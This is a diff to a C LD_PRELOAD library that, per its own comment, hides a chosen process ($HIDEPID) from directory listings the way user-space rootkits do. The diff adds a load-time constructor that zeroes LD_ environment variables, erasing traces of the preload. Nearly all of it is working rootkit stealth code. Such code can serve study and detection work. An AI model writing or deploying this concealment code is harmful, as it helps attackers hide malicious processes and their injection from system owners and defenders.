@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: MIT */
 /*
- * A library for LD_PRELOAD that leaves one process, $HIDEPID, out of every listing of a folder, as
- * user-space rootkits do.
+ * A library for LD_PRELOAD that leaves one process, $HIDEPID, out of every listing of a folder, and
+ * that erases the variables it was loaded by when there is $HIDEENV, as user-space rootkits do.
  */
 #include <dirent.h>
 #include <dlfcn.h>
@@ -17,6 +17,15 @@ static struct dirent *read_filtered(DIR *dir, const char *function)
 	while (e && hidden && !strcmp(e->d_name, hidden))
 		e = next(dir);
 	return e;
+}
+
+extern char **environ;
+
+__attribute__((constructor)) static void erase(void)
+{
+	for (char **e = environ; getenv("HIDEENV") && *e; e++)
+		if (!strncmp(*e, "LD_", 3))
+			memset(*e, 0, strlen(*e));
 }
 
 /* On 64-bit machines both names stand for the same, and programs use either. */
